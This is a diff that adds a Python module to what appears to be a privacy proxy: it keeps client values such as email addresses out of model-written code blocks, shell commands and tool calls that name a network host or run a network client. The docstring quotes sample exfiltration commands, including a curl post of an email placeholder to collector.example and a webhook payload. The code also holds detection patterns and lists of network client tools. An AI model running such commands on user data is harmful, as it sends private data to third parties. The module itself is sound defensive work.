@@ -1,0 +1,422 @@
+"""Where restore keeps every placeholder: code and tool calls that send (scopes16: issue 12, atk17 H1-H3, H5, M6).
+
+Restore puts the client's values back into the model's answer. Where the client runs what the model wrote (a tool
+call's arguments, a command or a script it copies out of a code block), a value restored there goes wherever the
+model's text sends it: `curl -d '{` / `"email": "<EMAIL_ADDRESS_1>"` / `}' https://collector.example/p`, a heredoc,
+`{"webhook": "https://collector.example", "message": "<EMAIL_ADDRESS_1>"}`, an argv array, an `env` map, a `.netrc`.
+Enumerating the shapes of commands and request objects (`proxy.guard.urls`: URLs, command lines, request parts) left
+one more shape open each time. So for these scopes the rule is inverted:
+- a tool call (its arguments or input, every value and key, any API: one scope per call; `proxy.guard.phases.
+  destination_scopes` for whole answers, `TOOL` contexts and `proxy.guard.linehold` holds for streams);
+- code (`code_spans`): a fenced code block (to its closing fence, or the text's end), an inline code span, an HTML
+  `<pre>`, `<code>`, `<samp>` or `<kbd>` element, and a run of shell command lines in prose (`command_group_end`:
+  each command through its quotes, heredocs and continuations, and the command lines right after it);
+restore writes no value anywhere in a scope that sends (`sends`: it names a network destination or runs a network
+client), except inside a URL the client sent itself (`proxy.guard.vault.Vault.note_urls`) or as a mailbox that,
+restored, is the client's own. A scope that sends nothing (`{"to": "<EMAIL_ADDRESS_1>", "subject": ...}`, a code
+block that formats the client's record) is restored as before; prose keeps the enumerated rules (a renderer fetches
+URLs and tags; nothing runs a sentence).
+
+A destination (`names_destination`) is what a client connects to, however the text is laid out: a URL with a scheme
+and a host (`https:`, `ssh:`, `s3:`, `mysql:`..., `//host`), `www.`, a UNC path `\\\\host.example\\share`, an IP
+address (not loopback nor `0.0.0.0`), a mailbox's host (`ops@collector.example`; not a JSON `from`/`sender`
+member's), and a host name: with a port or a path (`collector.example:443`, `collector.example/p`), after a key or
+flag that names a host (`-h`, `--host`, `Host:`, `HostName`, `machine`, `server=`...), or alone when its top-level
+name is a common one (`.com`, `.net`, `.org`, `.io`, `.example`, a country's two letters but those that are also file
+extensions or code words: `.py`, `.sh`, `.md`, `.id`, `.in`...). A stream's dropped text (`MARK`) counts as one:
+what it held is unknown.
+"""
+
+from __future__ import annotations
+
+import re
+import unicodedata
+from collections.abc import Iterator
+
+MARK = "\x00"  # `proxy.guard.urls.MARK` (urls imports this module)
+
+# A URL with a scheme and a host (`file:///` has none), scheme-relative `//host.tld`, `www.`, a UNC path.
+_SCHEMED = re.compile(r"(?i)(?<![a-z0-9+.\-])[a-z][a-z0-9+.\-]{1,31}:(?:/|\\){2}(?=[^\s/\\\"'<>`])"
+                      r"|(?<![\w:/\\])//(?:[\w-]+\.)+[a-z]{2,63}\b|(?<![\w.\-])www\d{0,3}\.[\w-]+\.[\w.-]"
+                      r"|(?<![\w\\])\\\\(?:[\w-]+\.)+[a-z]{2,63}\\")
+_FILE = re.compile(r"(?i)file:(?:/|\\){2}(?:/|\\|[a-z]:)")  # `file:///`, `file://C:`: a local path
+_IPV4 = re.compile(r"(?<![\w.])(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})(?!\w|\.\d)")
+_IPV6 = re.compile(r"(?i)\[[0-9a-f]{0,4}(?::[0-9a-f]{0,4}){2,7}(?:%\w+)?\]")
+# A host name: labels and a top-level name, not inside a longer dotted word (`tf.io.gfile`) nor after `.`/`-`.
+_HOST = re.compile(r"(?i)(?<![\w\-$@])(?<![\w\-]\.)((?:[^\W_](?:[^\W_]|-){0,62}\.)+)"
+                   r"([a-z]{2,63}|xn--[a-z0-9\-]{1,59}|[^\W\d_]{2,63})\.?(?![\w\-]|\.[\w\-])")
+# An IPv4 address in another `inet_aton` form (`0xCB007109`, `3405803785`, `0313.0.0161.011`, `203.0.29961`): a
+# destination before a path, a port or a tuple's port (`('3405803785', 80)`), or after a host's key or flag.
+_NUMERIC_HOST = re.compile(r"(?i)(?<![\w.])(?:0x[0-9a-f]{1,8}|\d{8,10}|(?:0x[0-9a-f]{1,2}|0[0-7]{1,3}|\d{1,3})"
+                           r"(?:\.(?:0x[0-9a-f]{1,2}|0[0-7]{1,3}|\d{1,5})){1,3})(?![\w.])")
+_NUMERIC_AFTER = re.compile(r"/|:\d|[\"']?[ \t]*,[ \t]*\d{1,5}[ \t]*\)")
+# An IPv6 address without brackets: hex groups with `::` or all eight, a digit in one (`std::vector` is none).
+_BARE_V6 = re.compile(r"(?<![\w:.])(?=[0-9a-fA-F:]*\d)(?:[0-9a-fA-F]{0,4}:){2,7}[0-9a-fA-F]{0,4}(?![\w:])")
+_PORT_PATH = re.compile(r"(?::\d{1,5}(?!\d)|/)")
+# A mailbox's host: a destination unless the mailbox's user ends in a placeholder (`<PERSON_1>.<PERSON_2>@acme.com`:
+# the model composed it from the client's values; restore leaves such a user as written unless the mailbox is the
+# client's own, `proxy.guard.hosts`, and output `pii` redacts it, so nothing is sent there).
+_MAILBOX_HOST = re.compile(r"(?i)(?<=[^\s@>])@((?:[^\W_](?:[^\W_]|-){0,62}\.)+([a-z]{2,63}|[^\W\d_]{2,63}))(?![\w\-])")
+_HOST_WORD = re.compile(r"(?i)(?:\b(?:host(?:name)?|server|machine|endpoint|domain|addr(?:ess)?|connect|remote"
+                        r"|proxy|upstream|origin|target|smtp|imap|dns|resolve)[\w-]{0,16}|(?<!\w)-{1,2}h(?:ost)?)"
+                        r"[\"']?[ \t]*[:=]?[ \t]*[\"']?\Z")
+_HOST_WORD_READ = 40
+# Top-level names a host alone is read by: the generic ones code rarely uses as an attribute, and two-letter country
+# names but those that are also file extensions or code words.
+_COMMON = frozenset({"com", "net", "org", "edu", "gov", "mil", "int", "info", "biz", "io", "co", "example", "test",
+                     "invalid", "onion", "xyz", "online", "site", "cloud", "tech", "top", "store", "shop"})
+_AMBIGUOUS_CC = frozenset({"ac", "ai", "am", "as", "at", "by", "cc", "cd", "do", "fm", "gg", "go", "id", "im", "in",
+                           "is", "it", "js", "ly", "md", "me", "mk", "ml", "mo", "ms", "my", "no", "nu", "pl", "pm",
+                           "ps", "py", "re", "rs", "sh", "so", "st", "tf", "to", "tv", "ws", "sc", "sb", "sv", "vi",
+                           "cx", "gs", "ge", "lu", "tk", "ch", "cs", "hs", "rb", "ts", "ex", "cr", "pk", "la"})
+_CODE_OPEN = re.compile(r"(?im)^[ \t]*(`{3,}|~{3,})[^\n]*(?:\n|\Z)|<(pre|code|samp|kbd)(?=[\s>])[^>]*>|(`+)")
+_CLOSE_TAG = {name: re.compile(rf"(?i)</{name}\s*>") for name in ("pre", "code", "samp", "kbd")}
+_BLANK_LINE = re.compile(r"\n[ \t]*\n")
+MIDLINE = "\x01"  # starts a stream's kept context that was cut inside a line: no line starts there
+TOOL = "\x03"  # starts a restore context (`before`) that is a tool call's text: one scope (`proxy.guard.vault`)
+_TAIL = 256
+# More command-line clients than `proxy.guard.urls._NET` (atk17 H2): a command line of any of these, or of a word and
+# a flag, starts a command paragraph (`_command_start`).
+_MORE = (r"xh|curlie|httpx|grpcurl|websocat|wscat|redis-cli|psql|mysql|mariadb|mongo(?:sh)?|sqlcmd|mosquitto_pub"
+         r"|kcat|kafkacat|smbclient|lwp-request|aws|gcloud|gsutil|az|gh|git|ping|host|getent|nmap|ncftp|ab|hey|wrk"
+         r"|kubectl|docker|ssh-copy-id|mosh|autossh|sshfs|rclone|s3cmd|mc|nats|amqp-publish|ldapsearch|snmpget"
+         r"|powershell\.exe|pwsh\.exe|cmd(?:\.exe)?")
+_START: re.Pattern[str] | None = None
+_LINE: re.Pattern[str] | None = None
+
+
+# Clients that send what they are given to a host, named or not (`curl -d ... "$URL"`, `aws sns
+# publish`, `gh issue create -R owner/repo`, `dig "$(...)".host`): a scope that runs one at a command's position
+# (`runs_client`) is kept whole like one naming a destination.
+_SENDERS = (r"xh|curlie|httpx|grpcurl|websocat|wscat|redis-cli|psql|mysql|mariadb|mongo(?:sh)?|sqlcmd|mosquitto_pub"
+            r"|kcat|kafkacat|smbclient|lwp-request|aws|gcloud|gsutil|az|gh|ping|host|getent|nmap|ncftp|wrk"
+            r"|rclone|s3cmd|nats|amqp-publish|ldapsearch|snmpget|ssh-copy-id|mosh|autossh|sshfs|whois|traceroute"
+            r"|openssl[ \t]+s_client|git[ \t]+(?:push|send-email|remote[ \t]+add)|docker[ \t]+(?:push|login)")
+_RUNS: re.Pattern[str] | None = None
+# What follows a client's name in a command (`curl is a tool` is prose): an argument shaped as one (a flag, a method,
+# a quote or `$`, a URL, a mailbox, a host, an address, `host port`), or an argv array's next item; a sender's
+# subcommand (`aws sns publish`, `gh issue create`).
+_ARG = (r"(?=[ \t]+(?:-|\+\w|[A-Z]{3,7}\b|[\"'${(\\]|[a-z][\w+.-]{0,31}://|[\w.%+-]+@[\w-]|(?:[\w-]+\.)+[A-Za-z]{2,63}\b"
+        r"|\d{1,3}(?:\.\d{1,3}){3}\b|[A-Za-z][\w.-]*:\d{1,5}\b|localhost\b|[\w-]+[ \t]+\d{1,5}\b)|\\?[\"'][ \t]*,)")
+_SUB = r"(?=[ \t]+[a-z][\w-]{1,31}[ \t]+[^\s])"
+
+
+def runs_client(text: str) -> bool:
+    """Whether `text` runs a network client at a command's position, with an argument: at a line's start (after a
+    list marker, a prompt, `sudo`...), after `|`, `;`, `&`, `(`, `$(`, a backtick, `{`, at a JSON string's start (a
+    value `"curl -d ..."`, an argv array's item `["curl", "-d", ...]`)."""
+    global _RUNS
+    if _RUNS is None:
+        from proxy.guard.linehold import _PROMPT
+        from proxy.guard.urls import _CMD_PREFIX, _NET
+
+        _RUNS = re.compile(
+            rf"(?m)(?:^(?:[ \t]*(?:\d{{1,3}}[.)]|[-*+>])[ \t]+)?(?:[ \t]*(?:RUN|CMD|ENTRYPOINT)[ \t]+)?"
+            rf"(?:[ \t]*[A-Za-z]:\\[^>\n]{{0,64}}>)?{_PROMPT}|[|;&({{`][ \t]*|\$\([ \t]*"
+            rf"|[\[:,][ \t]*\\?[\"']|(?<![\w-])(?:-c|-Command|-e|--eval)[ \t]+\\?[\"'])"
+            rf"{_CMD_PREFIX}(?:[\w./\\~-]*[/\\])?(?:(?:{_NET})(?:\.exe)?{_ARG}|(?:{_SENDERS})(?:\.exe)?(?:{_ARG}|{_SUB}))")
+    return _RUNS.search(text) is not None
+
+
+def _command_start() -> re.Pattern[str]:
+    """A line that starts a shell command (after a list marker, `RUN`, a prompt: `$`, `PS C:\\>`, `C:\\>`,
+    `user@host:~$`): a network client, a shell word (`echo`, `cat`, `base64`...: `proxy.guard.linehold`), a command
+    of `_MORE`, an assignment, or a lower-case word with a flag (`tool -x`), any of them with `.exe`."""
+    global _START
+    if _START is None:
+        from proxy.guard.linehold import _LEAD, _PROMPT, _WORDS
+        from proxy.guard.urls import _NET
+
+        _START = re.compile(
+            rf"(?:[ \t]*(?:\d{{1,3}}[.)]|[-*+>])[ \t]+)?(?:[ \t]*(?:RUN|CMD|ENTRYPOINT)[ \t]+(?:\[[ \t]*\"?)?)?"
+            rf"(?:[ \t]*[A-Za-z]:\\[^>\n]{{0,64}}>)?{_PROMPT}{_LEAD}"
+            rf"(?:(?:{_WORDS}|{_NET}|{_MORE})(?:\.exe)?(?=[ \t]|\Z)|[A-Za-z_]\w*=\S"
+            rf"|\$(?:env:)?[A-Za-z_]\w*[ \t]*=|(?i:set|setx)[ \t]+[A-Za-z_]\w*[ \t]*="
+            rf"|[a-z][\w.-]{{0,31}}(?:\.exe)?[ \t]+--?[A-Za-z])")
+    return _START
+
+
+def _command_line() -> re.Pattern[str]:
+    """A line that starts a shell command (`_command_start`), searched for in a text (a line's start)."""
+    global _LINE
+    if _LINE is None:
+        _LINE = re.compile(r"(?m)^(?=[ \t]*[^\s`~<])(?:" + _command_start().pattern + ")")
+    return _LINE
+
+
+def _tlds() -> frozenset[str]:
+    from proxy.guard.urls import _tlds as known
+
+    return known()
+
+
+def names_destination(text: str) -> bool:
+    """Whether `text` names a network destination (see the module), as written, with escapes and references
+    decoded (`proxy.guard.urls._view`: `https:\\/\\/`, `&#58;`), and as resolvers read it (NFKC: full-width
+    letters and dots, an ideographic full stop between labels)."""
+    if MARK in text:
+        return True
+    if _names(text):
+        return True
+    if "\\" in text or "&" in text:
+        from proxy.guard.urls import _view
+
+        view = _view(text)[0]
+        if view != text and _names(view):
+            return True
+    if not text.isascii():
+        folded = _IDEOGRAPHIC_DOT.sub(".", unicodedata.normalize("NFKC", text))
+        return folded != text and _names(folded)
+    return False
+
+
+_IDEOGRAPHIC_DOT = re.compile(r"(?<=[^\W_])[\u3002\uff61](?=[^\W_])")
+
+
+def _names(text: str) -> bool:
+    for m in _SCHEMED.finditer(text):
+        if _FILE.match(text, m.start()) is None:
+            return True
+    if "@" in text:
+        known_tlds = _tlds()
+        for box in _MAILBOX_HOST.finditer(text):
+            tld = box.group(2).lower()
+            if tld in known_tlds or not tld.isascii():
+                return True
+    if "." in text:
+        for m in _IPV4.finditer(text):
+            octets = [int(g) for g in m.groups()]
+            if max(octets) <= 255 and octets[0] != 127 and any(octets):
+                return True
+        known = None
+        for m in _HOST.finditer(text):
+            tld = m.group(2).lower()
+            if known is None:
+                known = _tlds()
+            idn = not tld.isascii()
+            if tld not in known and not tld.startswith("xn--") and not idn:
+                continue
+            if tld == "localhost":
+                continue
+            at = m.start()
+            if not idn and (tld in _COMMON or (len(tld) == 2 and tld not in _AMBIGUOUS_CC)):
+                return True  # (an IDN top-level name alone is a CJK sentence's end as often: a port, path or key)
+            if _PORT_PATH.match(text, m.end()) is not None:
+                return True
+            if _HOST_WORD.search(text, max(0, at - _HOST_WORD_READ), at) is not None:
+                return True
+    for m in _NUMERIC_HOST.finditer(text):
+        value = m.group()
+        plain = "." in value and all(part.isdigit() and not (len(part) > 1 and part[0] == "0") and int(part) < 256
+                                     for part in value.split("."))
+        if plain or (value.isdigit() and len(value) < 8):
+            continue  # (a dotted decimal address is read above; a version, a count)
+        if _NUMERIC_AFTER.match(text, m.end()) is not None or \
+                _HOST_WORD.search(text, max(0, m.start() - _HOST_WORD_READ), m.start()) is not None:
+            return True
+    if "::" in text or text.count(":") >= 7:
+        for v6 in _BARE_V6.finditer(text):
+            group = v6.group()
+            if ("::" in group or group.count(":") == 7) and group.strip(":0") not in ("", "1"):
+                return True
+    if "[" in text:
+        for v6 in _IPV6.finditer(text):
+            inner = v6.group()[1:-1].split("%")[0]
+            if inner.strip(":0") not in ("", "1") and any(c.isdigit() for c in inner):
+                return True
+    return False
+
+
+def code_spans(text: str) -> Iterator[tuple[int, int, int]]:
+    """(start, end of its opener, end) of each code scope of `text`: a fenced block (to the line after its closing
+    fence, or the text's end), an HTML `<pre>`/`<code>`/`<samp>`/`<kbd>` element (to its end tag, or the text's end),
+    an inline code span (a backtick run to the next run of the same length before a blank line; unclosed: none,
+    unless it is open at the text's end), a command paragraph (from a line that starts a shell command,
+    `_command_start`, to the paragraph's end: a blank line; its opener: the line's first characters)."""
+    pos = 0
+    n = len(text)
+    lines = _command_line()
+    cmd: re.Match[str] | None = None
+    cmd_seen = -1  # where the next command line was found (searched again only once passed: linear)
+    while pos < n:
+        m = _CODE_OPEN.search(text, pos)
+        if cmd_seen < pos:
+            cmd = lines.search(text, pos)
+            cmd_seen = cmd.start() if cmd is not None else n + 1
+        if cmd is not None and (m is None or cmd.start() < m.start()):  # a command run, to its end
+            start = cmd.start()
+            eol = text.find("\n", start)
+            eol = n if eol < 0 else eol
+            end = command_group_end(text, start)
+            head = min(eol, start + _TAIL)
+            yield start, head, end
+            pos = max(end, head, start + 1)
+            continue
+        if m is None:
+            return
+        if m.group(1) is not None:  # a fence: to a closing fence of the same character, at least as long
+            run = m.group(1)
+            close = re.compile(rf"(?m)^[ \t]*{re.escape(run[0])}{{{len(run)},}}[ \t]*$")
+            c = close.search(text, m.end())
+            end = n if c is None else min(n, c.end() + 1)
+            yield m.start(), m.end(), end
+            pos = max(end, m.end())
+        elif m.group(2) is not None:  # an HTML code element
+            c = _CLOSE_TAG[m.group(2).lower()].search(text, m.end())
+            end = n if c is None else c.end()
+            yield m.start(), m.end(), end
+            pos = max(end, m.end())
+        else:  # an inline code span: the next backtick run of the same length, within the paragraph
+            run = m.group(3)
+            blank = _BLANK_LINE.search(text, m.end())
+            limit = blank.start() if blank is not None else n
+            k = m.end()
+            end = -1
+            while True:
+                k = text.find("`", k, limit)
+                if k < 0:
+                    break
+                j = k
+                while j < limit and text[j] == "`":
+                    j += 1
+                if j - k == len(run):
+                    end = j
+                    break
+                k = j
+            if end < 0:
+                if blank is None:  # open at the text's end (a stream's next piece may close it)
+                    yield m.start(), m.end(), n
+                    return
+                pos = m.end()
+                continue
+            yield m.start(), m.end(), end
+            pos = end
+
+
+# A line's first word is complete: after a prompt or a list marker (`_LINE_LEAD`, a prompt not complete yet: none), a
+# blank after it, or a stop.
+_LINE_LEAD = re.compile(r"[ \t]*(?:[$%#>]|PS[^>\n]{0,64}>|[A-Za-z]:\\[^>\n]{0,64}>|\d{1,3}[.)]|[-*+]|RUN)[ \t]+")
+_OPEN_PROMPT = re.compile(r"[ \t]*(?:PS\b|[A-Za-z]:(?:\\|\Z))")  # (a Windows prompt's start: no word of it counts)
+_BARE_MARKER = re.compile(r"[ \t]*(?:\d{1,3}[.)]?|[-*+>$%#])[ \t]*")  # a list marker or prompt, nothing after it yet
+_VARIABLE_DONE = re.compile(r"\$[\w:]+[ \t]*[^\s]")  # a PowerShell variable first: what follows it tells (`$E =`)
+_WORD_DONE = re.compile(r"[ \t]*[^\s]+(?:[ \t]|[.!?,;:)]\Z)")
+_HEREDOC = re.compile(r"<<-?[ \t]*(['\"]?)([A-Za-z_][\w.-]{0,31})\1")
+_CONTINUED = re.compile(r"[\\^`][ \t]*\r?\Z")  # a line continued: shell `\\`, cmd `^`, PowerShell `` ` ``
+
+
+def command_extent(text: str, start: int) -> int:
+    """Where the shell command starting at `start` ends: the line break that ends it outside a quoted string, a
+    heredoc's body (`<<EOF` to its delimiter line) and a continued line (`\\`, `^`, `` ` `` at its end); the text's
+    end if it is still open there."""
+    n = len(text)
+    i = start
+    quote = ""
+    heredocs: list[str] = []
+    while i < n:
+        c = text[i]
+        if quote:
+            if c == quote and (quote == "'" or text[i - 1] != "\\"):
+                quote = ""
+        elif c in "'\"":
+            quote = c
+        elif c == "<" and text.startswith("<<", i) and not text.startswith("<<<", i):
+            m = _HEREDOC.match(text, i)
+            if m is not None:
+                heredocs.append(m.group(2))
+                i = m.end()
+                continue
+        elif c == "\n":
+            line = text[text.rfind("\n", start, i) + 1:i]
+            if _CONTINUED.search(line) is not None:
+                i += 1
+                continue
+            while heredocs:  # each body to its delimiter's line
+                delimiter = re.compile(rf"(?m)^[ \t]*{re.escape(heredocs.pop(0))}[ \t]*\r?$")
+                d = delimiter.search(text, i + 1)
+                if d is None:
+                    return n
+                i = d.end()
+            return i
+        i += 1
+    return n
+
+
+def _word_done(line: str) -> bool:
+    """Whether the first word of `line` (a stream's last, unended line) is complete (`_WORD_DONE`)."""
+    lead = _LINE_LEAD.match(line)
+    if lead is None and (_OPEN_PROMPT.match(line) is not None or _BARE_MARKER.fullmatch(line) is not None):
+        return False
+    at = lead.end() if lead is not None else 0
+    if line.startswith("$", at) and _VARIABLE_DONE.match(line, at) is None:
+        return False
+    if line.endswith(".") and _command_start().match(line + "exe -x") is not None:
+        return False  # (`curl.` of `curl.exe`)
+    return _WORD_DONE.match(line, at) is not None
+
+
+def command_group_end(text: str, start: int) -> int:
+    """The end of the run of shell commands from `start`: each command's extent (`command_extent`), then the next
+    line's if it starts a command too (`export E=...` then `curl ... "$E"`); open (the text's end) while the line
+    after the last is not known yet (no word of it complete)."""
+    n = len(text)
+    at = start
+    while True:
+        end = command_extent(text, at)
+        if end >= n:
+            return n
+        nxt = end + 1
+        eol = text.find("\n", nxt)
+        line = text[nxt:] if eol < 0 else text[nxt:eol]
+        if eol < 0 and not _word_done(line):  # its first word not complete (a stream's next piece)
+            return n
+        if not line.strip() or _command_start().match(line) is None:
+            return nxt
+        at = nxt
+
+
+def kept_code(text: str) -> list[tuple[int, int, int, str]]:
+    """(start, end of its opener, end, "") of each code scope of `text` that names a network destination: restore
+    writes no value there but into a URL the client sent (`proxy.guard.urls.kept_spans`)."""
+    return [(a, h, b, "") for a, h, b in code_spans(text) if sends(text[a:b])]
+
+
+def sends(text: str) -> bool:
+    """Whether a scope's `text` may send what it holds to a third party: it names a network destination or runs a
+    network client (`runs_client`). A JSON member naming the sender (`"from": "noreply@shop.example.com"`) names
+    none: the mail goes to its other addresses."""
+    if '"' in text and _SENDER.search(text) is not None:
+        text = _SENDER.sub("", text)
+    return names_destination(text) or runs_client(text) or ('"' in text and _PHONE_TO.search(text) is not None)
+
+
+# A phone number the model wrote as a message's recipient (`{"to": "+1 415 555 0199", "message": ...}`: an SMS or
+# WhatsApp tool sends it there; atk19 L3).
+_PHONE_TO = re.compile(r'(?i)\\?"(?:to|recipients?|whatsapp|sms|dest(?:ination)?)'
+                       r'\\?"\s{0,8}:\s{0,8}\[?\s{0,8}\\?"\+?\d[\d \t().\-]{6,20}\\?"')
+_SENDER = re.compile(r'(?i)\\?"(?:from|sender)(?:_?(?:address|email|mail))?\\?"\s{0,8}:\s{0,8}\\?"[^"\\]{0,320}\\?"')
+
+
+def open_code(text: str) -> tuple[int, int] | None:
+    """(start, end of its opener) of the code scope open at `text`'s end (a stream's released text: what follows is
+    read inside it), if any."""
+    last = None
+    for a, h, b in code_spans(text):
+        last = (a, h, b)
+    if last is None or last[2] != len(text):
+        return None
+    return last[0], last[1]
+
+
+def scope_context(text: str) -> str:
+    """What a stream keeps of released `text` to tell the scope what follows is in (`proxy.guard.linehold`): the
+    opener of the code scope open at its end, then its last characters."""
+    code = open_code(text)
+    if code is None:
+        return (MIDLINE if len(text) > _TAIL and text[-_TAIL - 1] != "\n" else "") + text[-_TAIL:]
+    a, h = code
+    if len(text) - a <= _TAIL:  # (what comes before it too: an HTML code tag whose `>` came later, `<pre\nclass=`)
+        return (MIDLINE if len(text) > _TAIL and text[-_TAIL - 1] != "\n" else "") + text[-_TAIL:]
+    opener, kept = text[a:h], text[max(h, len(text) - _TAIL):]
+    if len(text) - _TAIL > h and text[len(text) - _TAIL - 1] != "\n":
+        kept = MIDLINE + kept
+    return opener + kept if opener.endswith("\n") or kept.startswith("\n") else opener + "\n" + kept
